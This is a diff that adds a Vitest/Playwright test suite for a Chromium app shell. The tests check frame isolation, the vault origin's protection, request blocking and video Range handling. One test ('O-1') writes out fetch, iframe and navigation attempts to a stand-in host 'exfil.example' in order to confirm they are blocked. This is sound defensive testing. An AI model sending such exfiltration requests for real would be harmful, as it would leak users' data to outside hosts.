@@ -1,0 +1,221 @@
+import { execFileSync } from "node:child_process";
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import type { Frame, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { findChromium } from "../../main/setup/index.ts";
+import { createChromiumShell, type ChromiumShell } from "../../main/shell/chromium/index.ts";
+import { buildPreload } from "../support/preload.ts";
+import { smallApp, type SmallApp } from "../support/small-app.ts";
+
+const folder = mkdtempSync(join(tmpdir(), "vitrine-shell-"));
+const clip = join(folder, "clip.mp4");
+const vault = "https://vault.vitrine.invalid";
+
+/** Incompressible enough to need several pieces: 20 s, one keyframe a second. */
+function makeClip(): void {
+  const picture = ["-f", "lavfi", "-i", "testsrc2=size=640x360:rate=25:duration=20"];
+  const sound = ["-f", "lavfi", "-i", "sine=frequency=440:duration=20"];
+  const coding = ["-vf", "noise=alls=60:allf=t", "-c:v", "libx264", "-preset", "ultrafast", "-crf", "24", "-g", "25"];
+  execFileSync("ffmpeg", [
+    "-v",
+    "error",
+    "-y",
+    ...picture,
+    ...sound,
+    ...coding,
+    "-pix_fmt",
+    "yuv420p",
+    "-c:a",
+    "aac",
+    "-movflags",
+    "+faststart",
+    clip,
+  ]);
+}
+
+describe("Chromium shell", () => {
+  let shell: ChromiumShell;
+  let app: SmallApp;
+  let page: Page;
+  let picture: Frame;
+
+  beforeAll(async () => {
+    makeClip();
+    const preloadFile = join(folder, "index.cjs");
+    writeFileSync(preloadFile, await buildPreload());
+    const executable = findChromium();
+    if (executable === null) {
+      throw new Error("no Chromium on this machine; npm test installs one as root");
+    }
+    app = smallApp(readFileSync(clip), (channel, input) => ({ ok: true, value: { channel, input } }));
+    shell = await createChromiumShell({ executable, preloadFile, headless: true });
+    await shell.open(app);
+    page = shell.testOnlyPage();
+    const frame = page.frames().find((candidate) => candidate.url().startsWith(vault));
+    if (frame === undefined) {
+      throw new Error("the picture frame did not load");
+    }
+    picture = frame;
+  });
+
+  afterAll(async () => {
+    await shell.close();
+    rmSync(folder, { recursive: true, force: true });
+  });
+
+  it("shows the interface with its scripts and styles under the real headers", async () => {
+    expect(await page.evaluate("globalThis.pageRan")).toBe(true);
+    expect(await page.evaluate("getComputedStyle(document.querySelector('h1')).color")).toBe("rgb(1, 2, 3)");
+    expect(await page.evaluate("location.origin")).toBe(shell.origins.interface);
+  });
+
+  it("shows the picture frame on the vault's own origin, and it runs", async () => {
+    expect(await picture.evaluate("globalThis.pictureRan")).toBe(true);
+    expect(await picture.evaluate("location.origin")).toBe(shell.origins.vault);
+  });
+
+  it("gives the window the bridge of the channel table, frozen, and carries plain data both ways", async () => {
+    expect(await page.evaluate("Object.isFrozen(workstation) && Object.isFrozen(workstation.identity)")).toBe(true);
+    expect(await page.evaluate("workstation.footage.show({ asset: 'a-1' })")).toEqual({
+      ok: true,
+      value: { channel: "footage:show", input: { asset: "a-1" } },
+    });
+    expect(app.calls.at(-1)?.sender).toEqual({ isMainFrame: true, url: "https://app.vitrine.invalid/" });
+  });
+
+  it("carries announcements in order and stops when unsubscribed", async () => {
+    await page.evaluate(
+      `globalThis.heard = []; globalThis.stop = workstation.requests.onChanged((it) => heard.push(it.id));`,
+    );
+    for (const id of ["r-1", "r-2", "r-3"]) {
+      shell.send("requests:changed", { id });
+    }
+    // The page's own policy forbids the eval that waitForFunction needs.
+    await expect.poll(async () => page.evaluate("heard")).toEqual(["r-1", "r-2", "r-3"]);
+    await page.evaluate("stop()");
+    shell.send("requests:changed", { id: "r-4" });
+    await page.evaluate("workstation.station.status()");
+    expect(await page.evaluate("heard.length")).toBe(3);
+  });
+
+  it("R3: the picture frame has no bridge, and no binding is left lying about in any frame", async () => {
+    const leftovers = `Object.getOwnPropertyNames(globalThis).filter((name) => /^b[0-9a-f]{32}$/.test(name) || name === "workstation")`;
+    expect(await picture.evaluate(leftovers)).toEqual([]);
+    expect(await page.evaluate(leftovers)).toEqual(["workstation"]);
+  });
+
+  it("R3: a frame without an address that the page makes has no bridge", async () => {
+    expect(
+      await page.evaluate(`(() => {
+        const frame = document.body.appendChild(document.createElement("iframe"));
+        const names = Object.getOwnPropertyNames(frame.contentWindow).filter((name) => /^b[0-9a-f]{32}$/.test(name) || name === "workstation");
+        frame.remove();
+        return names;
+      })()`),
+    ).toEqual([]);
+  });
+
+  it("script in the interface cannot read the vault, by any way of asking", async () => {
+    const before = app.vaultRequests.length;
+    const outcome = await page.evaluate(`(async () => {
+      const url = "${vault}/ticket-1/media";
+      const failed = (promise) => promise.then(() => "read", () => "refused");
+      const element = (tag, set) => new Promise((resolve) => {
+        const it = document.createElement(tag);
+        it.onload = it.onloadeddata = () => resolve("read");
+        it.onerror = () => resolve("refused");
+        set(it);
+        document.body.append(it);
+        setTimeout(() => resolve("silent"), 1500);
+      });
+      return Promise.all([
+        failed(fetch(url)), failed(fetch(url, { mode: "no-cors" })),
+        element("img", (it) => { it.src = url; }), element("video", (it) => { it.src = url; }),
+        element("script", (it) => { try { it.src = url; } catch { it.onerror(); } }),
+      ]);
+    })()`);
+    expect(outcome).not.toContain("read");
+    expect(app.vaultRequests.slice(before)).toEqual([]);
+  });
+
+  it("O-1: a request to anywhere else is refused and observed without its path", async () => {
+    const before = app.events.length;
+    expect(await picture.evaluate(`fetch("https://exfil.example/secret").then(() => "sent", () => "refused")`)).toBe(
+      "refused",
+    );
+    await page.evaluate(
+      `(() => { const it = document.createElement("iframe"); it.src = "https://exfil.example/secret"; document.body.append(it); })()`,
+    );
+    await page.evaluate(`(() => { location.href = "https://exfil.example/secret"; })()`);
+    await expect
+      .poll(() => app.events.slice(before))
+      .toContainEqual({
+        kind: "blocked",
+        what: "navigation",
+        detail: "https://exfil.example",
+      });
+    expect(page.url()).toBe("https://app.vitrine.invalid/");
+  });
+
+  it("opens no window, prints nothing, keeps nothing", async () => {
+    expect(await page.evaluate(`window.open("about:blank") === null`)).toBe(true);
+    expect(
+      await page.evaluate(
+        `(() => { let printed = 0; addEventListener("beforeprint", () => { printed += 1; }); print(); return printed; })()`,
+      ),
+    ).toBe(0);
+    expect(
+      await page.evaluate(`navigator.serviceWorker?.getRegistrations?.().then((all) => all.length, () => 0) ?? 0`),
+    ).toBe(0);
+  });
+
+  it("plays a clip piece by piece and seeks to its end and back", async () => {
+    const outcome = await picture.evaluate(`(async () => {
+      const video = document.getElementById("video");
+      const once = (type) => new Promise((resolve) => video.addEventListener(type, resolve, { once: true }));
+      if (video.readyState < 2) { await once("loadeddata"); }
+      const seek = async (to) => { const done = once("seeked"); video.currentTime = to; await done; return video.currentTime; };
+      const places = [await seek(19.5), await seek(3.02), await seek(11.1)];
+      await video.play();
+      await new Promise((resolve) => { const check = () => (video.currentTime > 11.6 ? resolve() : requestAnimationFrame(check)); check(); });
+      video.pause();
+      return { places, duration: Math.round(video.duration), error: video.error?.code ?? null, width: video.videoWidth };
+    })()`);
+    expect(outcome).toMatchObject({ places: [19.5, 3.02, 11.1], duration: 20, error: null, width: 640 });
+    expect(app.reads.length).toBeGreaterThan(2);
+    expect(Math.max(...app.reads.map(([from, to]) => to - from))).toBeLessThanOrEqual(1_048_576);
+  });
+
+  it.each([
+    ["bytes=0-0", 206, "bytes 0-0/"],
+    ["bytes=-5", 206, "bytes "],
+    ["bytes=5-2", 416, "bytes */"],
+    ["bytes=0-1,4-5", 416, "bytes */"],
+    ["bytes=99999999999999-", 416, "bytes */"],
+    ["items=0-5", 416, "bytes */"],
+  ])("answers Range %j with %i", async (range, status, contentRange) => {
+    const answer = await picture.evaluate(async (header) => {
+      const response = await fetch("./media", { headers: { range: header } });
+      return { status: response.status, range: response.headers.get("content-range") };
+    }, range);
+    expect(answer.status).toBe(status);
+    expect(answer.range).toMatch(new RegExp(`^${contentRange.replaceAll("*", "\\*")}`, "u"));
+  });
+
+  it("says which protections are real and claims no more", async () => {
+    const protections = await shell.protections();
+    expect(protections).toMatchObject({ capture: "unavailable", kiosk: "unavailable", keyStore: "unavailable" });
+    expect(protections["sandbox"]).toBe(process.getuid?.() === 0 ? "unavailable" : "live");
+  });
+
+  it("leaves no profile behind", async () => {
+    const executable = findChromium() ?? "";
+    const other = await createChromiumShell({ executable, preloadFile: join(folder, "index.cjs"), headless: true });
+    const profile = other.testOnlyProfile();
+    expect(existsSync(profile)).toBe(true);
+    await other.close();
+    expect(existsSync(profile)).toBe(false);
+  });
+});
